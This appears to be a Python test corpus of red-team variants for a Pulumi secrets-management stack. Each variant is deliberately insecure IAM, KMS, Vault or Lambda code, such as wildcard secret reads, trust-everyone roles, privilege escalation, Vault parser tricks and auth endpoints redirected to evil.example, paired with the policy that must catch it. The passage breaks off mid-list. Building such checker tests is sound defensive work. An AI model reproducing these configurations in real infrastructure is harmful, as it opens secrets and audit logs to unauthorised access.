'''The red-team corpus: raw resources an attacker or a careless engineer might append to `__main__.py`.

Each variant is Python source appended verbatim to the real program (it runs in the program's
globals: `settings`, `fleet`, `pulumi` are there) and the policy (or one of the policies) that must
stop it. Every variant builds its own names from `settings`, so the corpus follows the stack.
`PRELUDE` is prepended to each snippet (imports only).
'''

from __future__ import annotations

from dataclasses import dataclass

PRELUDE = """
import json as _json
import pulumi as _pulumi
import pulumi_aws as _aws
import pulumi_random as _random
import pulumi_vault as _vault
from agentfleet.core import naming as _n
from agentfleet.core import iam_documents as _iam
_S = settings
_ACCT = settings.aws_account_id
_R = settings.aws_region
_BILLING_ROLE = _n.role_name(_S, "billing")
_CRM_ROLE = _n.role_name(_S, "crm")
_STRIPE = _n.secret_name(_S, "billing", "stripe")
_STRIPE_ARN = _n.secret_arn_pattern(_S, "billing", "stripe")
_TAGS = _n.tags(_S, agent="crm", owner="team-crm")
def _doc(*statements):
    return _json.dumps({"Version": "2012-10-17", "Statement": list(statements)})
def _read(resource, effect="Allow"):
    return {"Effect": effect, "Action": ["secretsmanager:GetSecretValue"], "Resource": resource}
_KEY = fleet.kms_key_arn
_STRIPE_SECRET = fleet.agents["billing"].secrets["stripe"]
_VAULT_CRM = _n.vault_policy_name(_S, "crm")
"""


@dataclass(frozen=True)
class Variant:
    name: str
    policies: frozenset[str]
    """`check` must report a mandatory violation of at least one of these."""
    code: str


def v(name: str, policies: str, code: str) -> Variant:
    return Variant(name, frozenset(policies.split()), code)


_VAULT_OWN = 'kv/data/dev/crm/*'
VARIANTS: tuple[Variant, ...] = (
    # ---- Vault HCL read differently from Vault ----
    v("vault-comment-opener-in-string", "vault-policy-confined",
      '_vault.Policy("x", name=_VAULT_CRM + "-extra", policy=\'path "kv/data/dev/crm/*" { capabilities = ["read"] }\\npath "kv/*" { capabilities = ["read"] } # /*\')'),
    v("vault-brace-in-string", "vault-policy-confined",
      '_vault.Policy("x", name=_VAULT_CRM + "-b", policy=\'path "kv/data/dev/crm/{" { capabilities = ["read"] }\\npath "kv/data/dev/billing/*" { capabilities = ["read"] }\')'),
    v("vault-json-two-path-keys", "vault-policy-confined",
      '_vault.Policy("x", name=_VAULT_CRM + "-j", policy=\'{"path": {"kv/data/dev/billing/*": {"capabilities": ["read"]}}, "path": {"kv/data/dev/crm/*": {"capabilities": ["read"]}}}\')'),
    v("vault-two-capabilities-lines", "vault-policy-confined",
      '_vault.Policy("x", name=_VAULT_CRM + "-c", policy=\'path "kv/data/dev/crm/*" {\\n capabilities = ["read"]\\n capabilities = ["sudo"]\\n}\')'),
    v("vault-plus-segment", "vault-policy-confined",
      '_vault.Policy("x", name="reader", policy=\'path "kv/data/dev/+/*" { capabilities = ["read"] }\')'),
    v("vault-other-agents-path-under-another-name", "vault-policy-confined",
      '_vault.Policy("x", name="helper", policy=\'path "kv/data/dev/billing/stripe" { capabilities = ["read"] }\')'),
    v("vault-unknown-key", "vault-policy-confined",
      '_vault.Policy("x", name=_VAULT_CRM + "-u", policy=\'path "kv/data/dev/crm/*" { capabilities = ["read"] allowed_parameters = { "*" = [] } }\')'),
    # ---- grants the pack never saw ----
    v("managed-secretsmanager-readwrite", "closed-world",
      '_aws.iam.RolePolicyAttachment("x", role=_CRM_ROLE, policy_arn="arn:aws:iam::aws:policy/SecretsManagerReadWrite")'),
    v("managed-administrator-access", "closed-world",
      '_aws.iam.RolePolicyAttachment("x", role=fleet.agents["crm"].role.name, policy_arn="arn:aws:iam::aws:policy/AdministratorAccess")'),
    v("policy-attachment-managed", "closed-world",
      '_aws.iam.PolicyAttachment("x", roles=[_CRM_ROLE], policy_arn="arn:aws:iam::aws:policy/SecretsManagerReadWrite")'),
    v("role-managed-policy-arns", "closed-world",
      '_aws.iam.Role("x", name="helper", assume_role_policy=_doc({"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}), managed_policy_arns=["arn:aws:iam::aws:policy/SecretsManagerReadWrite"], tags=_TAGS)'),
    v("attachment-by-literal-arn", "closed-world",
      '_aws.iam.RolePolicyAttachment("x", role=_CRM_ROLE, policy_arn="arn:aws:iam::" + _ACCT + ":policy/read-everything")'),
    v("attachments-exclusive", "closed-world",
      '_aws.iam.RolePolicyAttachmentsExclusive("x", role_name=_CRM_ROLE, policy_arns=["arn:aws:iam::aws:policy/SecretsManagerReadWrite"])'),
    v("in-stack-managed-policy-cross-agent", "one-reader-per-secret",
      'p = _aws.iam.Policy("x", policy=_doc(_read(_STRIPE_ARN)), tags=_TAGS)\n_aws.iam.RolePolicyAttachment("y", role=_CRM_ROLE, policy_arn=p.arn)'),
    v("iam-user-access-key", "closed-world",
      'u = _aws.iam.User("x", name="ops-bot", tags=_TAGS)\n_aws.iam.AccessKey("k", user=u.name)\n_aws.iam.UserPolicy("p", user=u.name, policy=_doc(_read("arn:aws:secretsmanager:" + _R + ":" + _ACCT + ":secret:agents/dev/billing/*")))'),
    v("iam-group-policy", "closed-world",
      'g = _aws.iam.Group("x", name="ops")\n_aws.iam.GroupPolicy("p", group=g.name, policy=_doc(_read(_STRIPE_ARN)))'),
    v("user-policy-attachment", "closed-world",
      '_aws.iam.UserPolicyAttachment("x", user="ops-bot", policy_arn="arn:aws:iam::aws:policy/SecretsManagerReadWrite")'),
    v("wildcard-read", "no-wildcard-secret-read",
      '_aws.iam.RolePolicy("x", role=_CRM_ROLE, policy=_doc(_read("*")))'),
    v("cross-agent-read", "one-reader-per-secret",
      '_aws.iam.RolePolicy("x", role=_CRM_ROLE, policy=_doc(_read(_STRIPE_ARN)))'),
    v("notresource-read", "no-wildcard-secret-read",
      '_aws.iam.RolePolicy("x", role=_CRM_ROLE, policy=_doc({"Effect": "Allow", "Action": "secretsmanager:GetSecretValue", "NotResource": "arn:aws:s3:::x"}))'),
    # ---- a second resource policy / rotation ----
    v("second-secret-policy-output", "one-policy-and-rotation-per-secret",
      '_aws.secretsmanager.SecretPolicy("x", secret_arn=_STRIPE_SECRET.arn, policy=_doc({"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "secretsmanager:GetSecretValue", "Resource": "*"}))'),
    v("second-secret-policy-by-name", "one-policy-and-rotation-per-secret",
      '_aws.secretsmanager.SecretPolicy("x", secret_arn=_STRIPE, policy=_doc({"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "secretsmanager:GetSecretValue", "Resource": "*"}))'),
    v("second-secret-policy-partial-arn", "one-policy-and-rotation-per-secret",
      '_aws.secretsmanager.SecretPolicy("x", secret_arn="arn:aws:secretsmanager:" + _R + ":" + _ACCT + ":secret:" + _STRIPE, policy=_doc({"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "secretsmanager:GetSecretValue", "Resource": "*"}))'),
    v("secret-policy-on-unknown-secret", "one-policy-and-rotation-per-secret",
      '_aws.secretsmanager.SecretPolicy("x", secret_arn="agents/dev/billing/strip", policy=_doc({"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "secretsmanager:GetSecretValue", "Resource": "*"}))'),
    v("second-rotation-1000-days", "one-policy-and-rotation-per-secret secret-rotation-within-class",
      '_aws.secretsmanager.SecretRotation("x", secret_id=fleet.agents["crm"].secrets["openai"].id, rotation_lambda_arn="arn:aws:lambda:" + _R + ":" + _ACCT + ":function:x", rotation_rules={"automatically_after_days": 1000})'),
    v("second-rotation-by-name", "one-policy-and-rotation-per-secret secret-rotation-within-class",
      '_aws.secretsmanager.SecretRotation("x", secret_id=_n.secret_name(_S, "research", "openai"), rotation_lambda_arn="arn:aws:lambda:" + _R + ":" + _ACCT + ":function:x", rotation_rules={"automatically_after_days": 1000})'),
    v("raw-secret-everything-missing", "secret-encrypted-with-cmk secret-resource-policy-denies-others",
      '_aws.secretsmanager.Secret("x", name="agents/dev/crm/extra", tags={**_TAGS, "classification": "internal"})'),
    # ---- literal values ----
    v("literal-secret-string", "no-literal-secret-values",
      '_aws.secretsmanager.SecretVersion("x", secret_id=_STRIPE_SECRET.id, secret_string="sk-not-real-but-literal")'),
    v("literal-with-depends-on-random", "no-literal-secret-values",
      'r = _random.RandomPassword("r", length=32)\n_aws.secretsmanager.SecretVersion("x", secret_id=_STRIPE_SECRET.id, secret_string="literal-value-here", opts=_pulumi.ResourceOptions(depends_on=[r]))'),
    v("literal-through-apply-on-random", "no-literal-secret-values",
      'r = _random.RandomPassword("r", length=32)\n_aws.secretsmanager.SecretVersion("x", secret_id=_STRIPE_SECRET.id, secret_string=r.result.apply(lambda _: "literal-value-here"))'),
    v("literal-concatenated-with-output", "no-literal-secret-values",
      '_aws.secretsmanager.SecretVersion("x", secret_id=_STRIPE_SECRET.id, secret_string=_pulumi.Output.concat("sk-", _STRIPE_SECRET.name))'),
    v("literal-write-only", "no-literal-secret-values",
      '_aws.secretsmanager.SecretVersion("x", secret_id=_STRIPE_SECRET.id, secret_string_wo="literal-value-here", secret_string_wo_version=1)'),
    v("literal-secret-binary", "no-literal-secret-values",
      '_aws.secretsmanager.SecretVersion("x", secret_id=_STRIPE_SECRET.id, secret_binary="bGl0ZXJhbC12YWx1ZQ==")'),
    v("literal-vault-generic-endpoint", "no-literal-secret-values closed-world",
      '_vault.generic.Endpoint("x", path="kv/data/dev/crm/openai", data_json=_json.dumps({"data": {"value": "literal-value-here"}}))'),
    v("literal-vault-kv", "no-literal-secret-values",
      '_vault.kv.SecretV2("x", mount="kv", name="dev/crm/openai", data_json=_json.dumps({"value": "literal-value-here"}))'),
    v("literal-ssm-securestring", "no-literal-secret-values",
      '_aws.ssm.Parameter("x", name="/agents/dev/crm/openai", type="SecureString", value="literal-value-here", tags=_TAGS)'),
    v("literal-lambda-env", "no-literal-secret-values",
      '_aws.lambda_.Function("x", role=fleet.agents["crm"].role.arn, runtime="python3.12", handler="h.h", code=_pulumi.AssetArchive({}), environment={"variables": {"OPENAI_API_KEY": "literal-value-here"}}, tags=_TAGS)'),
    v("generated-secret-in-lambda-env", "no-literal-secret-values",
      'r = _random.RandomPassword("r", length=32)\n_aws.lambda_.Function("x", role="arn:aws:iam::" + _ACCT + ":role/other", runtime="python3.12", handler="h.h", code=_pulumi.AssetArchive({}), environment={"variables": {"SEED": r.result}}, tags=_TAGS)'),
    v("non-secret-generator", "secret-inputs-protected",
      'r = _random.RandomString("r", length=32, special=False)\n_aws.secretsmanager.SecretVersion("x", secret_id=_STRIPE_SECRET.id, secret_string=r.result)'),
    # ---- trust ----
    v("oidc-sub-org-wildcard", "trust-policy-scoped",
      '_aws.iam.Role("x", name="gh", tags=_TAGS, assume_role_policy=_doc({"Effect": "Allow", "Principal": {"Federated": "arn:aws:iam::" + _ACCT + ":oidc-provider/token.actions.githubusercontent.com"}, "Action": "sts:AssumeRoleWithWebIdentity", "Condition": {"StringEquals": {"token.actions.githubusercontent.com:aud": "sts.amazonaws.com"}, "StringLike": {"token.actions.githubusercontent.com:sub": "repo:org/*"}}}))'),
    v("oidc-sub-repo-any-ref", "trust-policy-scoped",
      '_aws.iam.Role("x", name="gh", tags=_TAGS, assume_role_policy=_doc({"Effect": "Allow", "Principal": {"Federated": "arn:aws:iam::" + _ACCT + ":oidc-provider/token.actions.githubusercontent.com"}, "Action": "sts:AssumeRoleWithWebIdentity", "Condition": {"StringEquals": {"token.actions.githubusercontent.com:aud": "sts.amazonaws.com"}, "StringLike": {"token.actions.githubusercontent.com:sub": "repo:org/product:*"}}}))'),
    v("oidc-sub-ifexists", "trust-policy-scoped",
      '_aws.iam.Role("x", name="gh", tags=_TAGS, assume_role_policy=_doc({"Effect": "Allow", "Principal": {"Federated": "arn:aws:iam::" + _ACCT + ":oidc-provider/token.actions.githubusercontent.com"}, "Action": "sts:AssumeRoleWithWebIdentity", "Condition": {"StringEquals": {"token.actions.githubusercontent.com:aud": "sts.amazonaws.com"}, "StringEqualsIfExists": {"token.actions.githubusercontent.com:sub": "repo:org/product:ref:refs/heads/main"}}}))'),
    v("oidc-no-sub", "trust-policy-scoped",
      '_aws.iam.Role("x", name="k8s", tags=_TAGS, assume_role_policy=_doc({"Effect": "Allow", "Principal": {"Federated": "arn:aws:iam::" + _ACCT + ":oidc-provider/oidc.eks.us-east-1.amazonaws.com/id/ABC"}, "Action": "sts:AssumeRoleWithWebIdentity", "Condition": {"StringEquals": {"oidc.eks.us-east-1.amazonaws.com/id/ABC:aud": "sts.amazonaws.com"}}}))'),
    v("root-noop-condition", "trust-policy-scoped",
      '_aws.iam.Role("x", name="r", tags=_TAGS, assume_role_policy=_doc({"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::" + _ACCT + ":root"}, "Action": "sts:AssumeRole", "Condition": {"StringLike": {"aws:PrincipalArn": "*"}}}))'),
    v("root-transport-only-condition", "trust-policy-scoped",
      '_aws.iam.Role("x", name="r", tags=_TAGS, assume_role_policy=_doc({"Effect": "Allow", "Principal": {"AWS": _ACCT}, "Action": "sts:AssumeRole", "Condition": {"Bool": {"aws:SecureTransport": "true"}}}))'),
    v("foreign-account-principal-arn-star", "trust-policy-scoped",
      '_aws.iam.Role("x", name="r", tags=_TAGS, assume_role_policy=_doc({"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::999988887777:root"}, "Action": "sts:AssumeRole", "Condition": {"StringLike": {"aws:PrincipalArn": "*"}}}))'),
    v("foreign-account-with-external-id", "trust-policy-scoped",
      '_aws.iam.Role("x", name="r", tags=_TAGS, assume_role_policy=_doc({"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::999988887777:role/vendor"}, "Action": "sts:AssumeRole", "Condition": {"StringEquals": {"sts:ExternalId": "abc123"}}}))'),
    v("trust-everyone", "trust-policy-scoped",
      '_aws.iam.Role("x", name="r", tags=_TAGS, assume_role_policy=_doc({"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"}))'),
    v("trust-not-principal", "trust-policy-scoped",
      '_aws.iam.Role("x", name="r", tags=_TAGS, assume_role_policy=_doc({"Effect": "Allow", "NotPrincipal": {"AWS": "arn:aws:iam::" + _ACCT + ":role/x"}, "Action": "sts:AssumeRole"}))'),
    v("lowercase-allow-read", "iam-document-strict one-reader-per-secret",
      '_aws.iam.RolePolicy("x", role=_CRM_ROLE, policy=_doc(_read(_STRIPE_ARN, effect="allow")))'),
    v("lowercase-allow-trust", "iam-document-strict trust-policy-scoped",
      '_aws.iam.Role("x", name="r", tags=_TAGS, assume_role_policy=_doc({"Effect": "allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"}))'),
    v("lowercase-deny-in-secret-policy", "one-policy-and-rotation-per-secret secret-resource-policy-denies-others iam-document-strict",
      '_aws.secretsmanager.SecretPolicy("x", secret_arn=_STRIPE_SECRET.arn, policy=_doc({"Effect": "deny", "Principal": {"AWS": "*"}, "Action": "secretsmanager:GetSecretValue", "Resource": "*", "Condition": {"StringNotEquals": {"aws:PrincipalArn": ["arn:aws:iam::" + _ACCT + ":role/" + _BILLING_ROLE]}}}))'),
    # ---- KMS ----
    v("kms-grant", "kms-use-confined",
      '_aws.kms.Grant("x", key_id=_KEY, grantee_principal="arn:aws:iam::" + _ACCT + ":role/" + _CRM_ROLE, operations=["Decrypt"])'),
    v("kms-key-policy-extra-statement", "kms-use-confined",
      '_aws.kms.KeyPolicy("x", key_id=fleet.kms_key_id, policy=_doc({"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::" + _ACCT + ":root"}, "Action": "kms:*", "Resource": "*"}, {"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::" + _ACCT + ":role/" + _CRM_ROLE}, "Action": "kms:Decrypt", "Resource": "*"}))'),
    v("kms-direct-decrypt", "kms-use-confined",
      '_aws.iam.RolePolicy("x", role=_CRM_ROLE, policy=_KEY.apply(lambda k: _doc({"Effect": "Allow", "Action": "kms:Decrypt", "Resource": k})))'),
    v("kms-star-star", "kms-use-confined",
      '_aws.iam.RolePolicy("x", role=_CRM_ROLE, policy=_doc({"Effect": "Allow", "Action": "kms:*", "Resource": "*"}))'),
    v("kms-viaservice-wildcard", "kms-use-confined",
      '_aws.iam.RolePolicy("x", role=_CRM_ROLE, policy=_doc({"Effect": "Allow", "Action": "kms:Decrypt", "Resource": "*", "Condition": {"StringLike": {"kms:ViaService": "*"}}}))'),
    # ---- Vault auth roles handing an agent's policy to another identity ----
    v("vault-aws-login-other-role", "vault-login-confined",
      '_vault.aws.AuthBackendRole("x", backend="aws", role="intruder", auth_type="iam", bound_iam_principal_arns=["arn:aws:iam::" + _ACCT + ":role/intruder"], token_policies=[_VAULT_CRM], token_no_default_policy=True)'),
    v("vault-aws-login-wildcard-principal", "vault-login-confined",
      '_vault.aws.AuthBackendRole("x", backend="aws", role="any", auth_type="iam", bound_iam_principal_arns=["arn:aws:iam::" + _ACCT + ":role/*"], token_policies=[_VAULT_CRM])'),
    v("vault-approle", "vault-login-confined",
      '_vault.approle.AuthBackendRole("x", backend="approle", role_name="ci", token_policies=[_VAULT_CRM])'),
    v("vault-jwt-role", "vault-login-confined",
      '_vault.jwt.AuthBackendRole("x", backend="jwt", role_name="ci", role_type="jwt", user_claim="sub", bound_audiences=["vault"], token_policies=[_VAULT_CRM])'),
    v("vault-kubernetes-role", "vault-login-confined",
      '_vault.kubernetes.AuthBackendRole("x", backend="kubernetes", role_name="any", bound_service_account_names=["*"], bound_service_account_namespaces=["*"], token_policies=[_VAULT_CRM])'),
    v("vault-token", "vault-login-confined",
      '_vault.Token("x", policies=[_VAULT_CRM], no_default_policy=True)'),
    v("vault-identity-group", "vault-login-confined",
      '_vault.identity.Group("x", name="ops", policies=[_VAULT_CRM])'),
    v("vault-root-policy", "vault-login-confined",
      '_vault.approle.AuthBackendRole("x", backend="approle", role_name="god", token_policies=["root"])'),
    v("vault-generic-writes-policy", "closed-world",
      '_vault.generic.Endpoint("x", path="sys/policy/ops", data_json=_json.dumps({"policy": \'path "kv/*" { capabilities = ["read"] }\'}))'),
    # ---- Lambda permissions ----
    v("lambda-permission-star", "lambda-permission-scoped",
      '_aws.lambda_.Permission("x", action="lambda:InvokeFunction", function=_n.rotation_function_name(_S, "crm"), principal="*")'),
    v("lambda-permission-no-source", "lambda-permission-scoped",
      '_aws.lambda_.Permission("x", action="lambda:InvokeFunction", function=_n.rotation_function_name(_S, "crm"), principal="secretsmanager.amazonaws.com")'),
    v("lambda-permission-source-account-only", "lambda-permission-scoped",
      '_aws.lambda_.Permission("x", action="lambda:InvokeFunction", function=_n.rotation_function_name(_S, "crm"), principal="events.amazonaws.com", source_account=_ACCT)'),
    v("lambda-permission-foreign-account", "lambda-permission-scoped",
      '_aws.lambda_.Permission("x", action="lambda:InvokeFunction", function=_n.rotation_function_name(_S, "crm"), principal="999988887777")'),
    v("lambda-function-url-open", "lambda-permission-scoped",
      '_aws.lambda_.FunctionUrl("x", function_name=_n.rotation_function_name(_S, "crm"), authorization_type="NONE")'),
    # ---- escalation ----
    v("escalation-put-role-policy", "no-privilege-escalation",
      '_aws.iam.RolePolicy("x", role=_CRM_ROLE, policy=_doc({"Effect": "Allow", "Action": "iam:PutRolePolicy", "Resource": "*"}))'),
    v("escalation-attach-star", "no-privilege-escalation",
      '_aws.iam.RolePolicy("x", role=_CRM_ROLE, policy=_doc({"Effect": "Allow", "Action": "iam:Attach*", "Resource": "*"}))'),
    v("escalation-put-resource-policy", "no-privilege-escalation",
      '_aws.iam.RolePolicy("x", role=_CRM_ROLE, policy=_doc({"Effect": "Allow", "Action": ["secretsmanager:PutResourcePolicy"], "Resource": "*"}))'),
    v("escalation-delete-resource-policy", "no-privilege-escalation",
      '_aws.iam.RolePolicy("x", role=_CRM_ROLE, policy=_doc({"Effect": "Allow", "Action": ["secretsmanager:DeleteResourcePolicy"], "Resource": "*"}))'),
    v("escalation-not-action", "no-privilege-escalation",
      '_aws.iam.RolePolicy("x", role=_CRM_ROLE, policy=_doc({"Effect": "Allow", "NotAction": "s3:*", "Resource": "*"}))'),
    # ---- unevaluated resource types touching managed resources ----
    v("instance-profile-of-agent-role", "closed-world",
      '_aws.iam.InstanceProfile("x", role=_CRM_ROLE)'),
    v("ecs-task-definition-uses-agent-role", "closed-world",
      '_aws.ecs.TaskDefinition("x", family="t", container_definitions="[]", task_role_arn=fleet.agents["crm"].role.arn)'),
    v("raw-lambda-runs-as-rotation-role", "closed-world",
      '_aws.lambda_.Function("x", role="arn:aws:iam::" + _ACCT + ":role/" + _n.rotation_role_name(_S, "crm"), runtime="python3.12", handler="h.h", code=_pulumi.AssetArchive({}), tags=_TAGS)'),
    v("raw-pod-identity-for-agent-role", "closed-world",
      '_aws.eks.PodIdentityAssociation("x", cluster_name="c", namespace="default", service_account="anyone", role_arn=fleet.agents["crm"].role.arn)'),
    v("event-target-runs-as-agent-role", "closed-world",
      '_aws.cloudwatch.EventTarget("x", rule="r", arn="arn:aws:ecs:" + _R + ":" + _ACCT + ":cluster/c", role_arn=fleet.agents["crm"].role.arn)'),
    v("trust-any-service", "trust-policy-scoped",
      '_aws.iam.Role("x", name="r", tags=_TAGS, assume_role_policy=_doc({"Effect": "Allow", "Principal": {"Service": "*"}, "Action": "sts:AssumeRole"}))'),
    v("vault-policy-same-name-as-agents", "vault-login-confined",
      'from agentfleet.core.vault_policies import agent_policy_hcl as _hcl\n_vault.Policy("x", name=_VAULT_CRM, policy=_hcl(_S, "crm"))'),
    v("vault-agent-policy-can-write-its-folder", "vault-policy-confined",
      '_vault.Policy("x", name=_VAULT_CRM, policy=\'path "kv/data/dev/crm/*" { capabilities = ["read", "update", "delete"] }\')'),
    v("credential-shaped-literal-anywhere", "no-literal-secret-values",
      '_aws.ssm.Parameter("x", name="/cfg/ci", type="String", value="AKIA" + "IOSFODNN7EXAMPLE", tags=_TAGS)'),
    v("cloudformation-stack-names-secret", "closed-world",
      '_aws.cloudformation.Stack("x", name="s", template_body="{}", parameters={"Secret": _STRIPE_SECRET.arn})'),
)

VARIANTS = VARIANTS + (
    v("policy-variable-in-resource", "no-wildcard-secret-read one-reader-per-secret",
      '_aws.iam.RolePolicy("x", role=_CRM_ROLE, policy=_doc(_read("arn:aws:secretsmanager:" + _R + ":" + _ACCT + ":secret:agents/dev/${aws:PrincipalTag/agent}/*")))'),
    v("secretsmanager-star-on-own-folder", "no-privilege-escalation rotation-role-scoped",
      '_aws.iam.RolePolicy("x", role=_CRM_ROLE, policy=_doc({"Effect": "Allow", "Action": "secretsmanager:*", "Resource": _n.secret_arn_pattern(_S, "crm", "openai")}))'),
    v("lambda-permission-account-wide-secret-source", "lambda-permission-scoped",
      '_aws.lambda_.Permission("x", action="lambda:InvokeFunction", function=_n.rotation_function_name(_S, "crm"), principal="secretsmanager.amazonaws.com", source_account=_ACCT, source_arn="arn:aws:secretsmanager:" + _R + ":" + _ACCT + ":secret:*")'),
    v("vault-json-path-list-form", "vault-policy-confined",
      '_vault.Policy("x", name="lister", policy=\'{"path": [{"kv/*": {"capabilities": ["read"]}}]}\')'),
    v("new-role-inline-read-of-another-agent", "one-reader-per-secret",
      '_aws.iam.Role("x", name="helper", tags=_TAGS, assume_role_policy=_doc({"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}), inline_policies=[{"name": "p", "policy": _doc(_read(_STRIPE_ARN))}])'),
    v("user-group-membership", "closed-world",
      '_aws.iam.UserGroupMembership("x", user="ops-bot", groups=["ops"])'),
)

_BILLING_FOLDER = '"arn:aws:secretsmanager:" + _R + ":" + _ACCT + ":secret:agents/dev/billing/*"'


def _rp(action: str, resource: str) -> str:
    return f'_aws.iam.RolePolicy("x", role=_CRM_ROLE, policy=_doc({{"Effect": "Allow", "Action": {action!r}, "Resource": {resource}}}))'


REDTEAM2: tuple[Variant, ...] = (
    # ---- IAM documents in types no policy reads ----
    v("sso-permission-set-inline-decrypt-and-read-star", "closed-world",
      '_aws.ssoadmin.PermissionSetInlinePolicy("x", instance_arn="arn:aws:sso:::instance/ssoins-1", '
      'permission_set_arn="arn:aws:sso:::permissionSet/ssoins-1/ps-1", inline_policy=_doc({"Effect": "Allow", '
      '"Action": ["kms:Decrypt", "secretsmanager:GetSecretValue"], "Resource": "*"}))'),
    # ---- Vault stores policy names trimmed and lowercased ----
    v("vault-okta-group-nested-uppercase-policy", "closed-world vault-login-confined",
      '_vault.okta.AuthBackend("x", organization="o", groups=[{"group_name": "ops", "policies": [_VAULT_CRM.upper()]}])'),
    v("vault-policy-uppercase-name-replaces-agents", "vault-login-confined",
      '_vault.Policy("x", name=_VAULT_CRM.upper(), policy=\'path "kv/data/dev/crm/*" { capabilities = ["deny"] }\')'),
    v("vault-policy-padded-name-replaces-agents", "vault-login-confined",
      '_vault.Policy("x", name=" " + _VAULT_CRM + " ", policy=\'path "kv/data/dev/crm/*" { capabilities = ["deny"] }\')'),
    # ---- Vault login mounts' trust roots ----
    v("vault-aws-auth-client-foreign-sts", "closed-world",
      '_vault.aws.AuthBackendClient("x", backend="aws", sts_endpoint="https://sts.evil.example", iam_endpoint="https://iam.evil.example")'),
    v("vault-kubernetes-config-foreign-host", "closed-world",
      '_vault.kubernetes.AuthBackendConfig("x", backend="kubernetes", kubernetes_host="https://evil.example")'),
    v("vault-aws-auth-sts-role", "closed-world",
      '_vault.aws.AuthBackendStsRole("x", backend="aws", account_id="999988887777", sts_role="arn:aws:iam::999988887777:role/vault")'),
    v("vault-kv-mount-keeps-one-version", "closed-world",
      '_vault.kv.SecretBackendV2("x", mount="kv", max_versions=1, delete_version_after=1)'),
    # ---- IAM role names are case-insensitive ----
    v("ecs-task-role-arn-uppercase-name", "closed-world",
      '_aws.ecs.TaskDefinition("x", family="t", container_definitions="[]", task_role_arn="arn:aws:iam::" + _ACCT + ":role/" + _CRM_ROLE.upper())'),
    # ---- trust ----
    v("trust-root-principal-arn-account-wide", "trust-policy-scoped",
      '_aws.iam.Role("x", name="r", tags=_TAGS, assume_role_policy=_doc({"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::" + _ACCT + ":root"}, '
      '"Action": "sts:AssumeRole", "Condition": {"ArnLike": {"aws:PrincipalArn": "arn:aws:iam::" + _ACCT + ":*"}}}))'),
    v("trust-root-principal-arn-any-role", "trust-policy-scoped",
      '_aws.iam.Role("x", name="r", tags=_TAGS, assume_role_policy=_doc({"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::" + _ACCT + ":root"}, '
      '"Action": "sts:AssumeRole", "Condition": {"ArnLike": {"aws:PrincipalArn": "arn:aws:iam::" + _ACCT + ":role/*"}}}))'),
    # ---- invoking the fleet's functions with inputs of one's choosing ----
    v("events-rule-invokes-rotation-function", "lambda-permission-scoped",
      'r = _aws.cloudwatch.EventRule("r", schedule_expression="rate(1 minute)")\n'
      '_aws.cloudwatch.EventTarget("t", rule=r.name, arn=_n.lambda_function_arn(_S, _n.rotation_function_name(_S, "crm")), '
      'input=_json.dumps({"SecretId": "x", "Step": "finishSecret", "ClientRequestToken": "y"}))\n'
      '_aws.lambda_.Permission("p", action="lambda:InvokeFunction", function=_n.rotation_function_name(_S, "crm"), '
      'principal="events.amazonaws.com", source_account=_ACCT, source_arn=r.arn)'),
    v("s3-invokes-rotation-function", "lambda-permission-scoped",
      '_aws.lambda_.Permission("p", action="lambda:InvokeFunction", function=_n.rotation_function_name(_S, "crm"), '
      'principal="s3.amazonaws.com", source_account=_ACCT, source_arn="arn:aws:s3:::evil-bucket")'),
    v("lambda-permission-any-action", "lambda-permission-scoped",
      '_aws.lambda_.Permission("p", action="lambda:*", function=_n.rotation_function_name(_S, "crm"), '
      'principal="secretsmanager.amazonaws.com", source_account=_ACCT, source_arn=_STRIPE_SECRET.arn)'),
    # ---- the audit trail's storage ----
    v("trail-bucket-second-policy-open", "closed-world",
      '_aws.s3.BucketPolicy("x", bucket=_n.trail_bucket_name(_S), policy=_doc({"Effect": "Allow", "Principal": "*", "Action": "s3:*", "Resource": "*"}))'),
    v("trail-bucket-lifecycle-expiry", "closed-world",
      '_aws.s3.BucketLifecycleConfigurationV2("x", bucket=_n.trail_bucket_name(_S), rules=[{"id": "gone", "status": "Enabled", '
      '"expiration": {"days": 1}}])'),
    # ---- the key's name pointed elsewhere ----
    v("kms-alias-of-the-keys-name-to-another-key", "closed-world",
      '_aws.kms.Alias("x", name=_n.kms_alias(_S), target_key_id="arn:aws:kms:" + _R + ":" + _ACCT + ":key/evil")'),
    # ---- decrypt through Secrets Manager without the encryption context ----
    v("kms-decrypt-via-secretsmanager-any-secret", "kms-use-confined",
      '_aws.iam.RolePolicy("x", role=_CRM_ROLE, policy=_doc({"Effect": "Allow", "Action": "kms:Decrypt", "Resource": "*", '
      '"Condition": {"StringEquals": {"kms:ViaService": "secretsmanager." + _R + ".amazonaws.com"}}}))'),
    v("kms-schedule-key-deletion", "kms-use-confined", _rp("kms:ScheduleKeyDeletion", '"*"')),
    # ---- secret writes the pack did not count ----
    v("agent-role-with-the-shared-rotation-write-form", "rotation-role-scoped",
      '_aws.iam.RolePolicy("x", role=_CRM_ROLE, policy=_doc({"Effect": "Allow", "Action": "secretsmanager:PutSecretValue", '
      '"Resource": "arn:aws:secretsmanager:" + _R + ":" + _ACCT + ":secret:agents/dev/*", "Condition": {"StringEquals": '
      '{"aws:ResourceTag/managed-by": "agentfleet", "aws:ResourceTag/environment": "dev"}}}))'),
    v("cancel-rotation-of-another-agents-secret", "rotation-role-scoped", _rp("secretsmanager:CancelRotateSecret", _BILLING_FOLDER)),
    v("retag-another-agents-secret", "rotation-role-scoped", _rp("secretsmanager:TagResource", _BILLING_FOLDER)),
    v("replicate-another-agents-secret", "rotation-role-scoped", _rp("secretsmanager:ReplicateSecretToRegions", _BILLING_FOLDER)),
    # ---- escalation ----
    v("delete-own-role-policy-with-the-denies", "no-privilege-escalation", _rp("iam:DeleteRolePolicy", '"*"')),
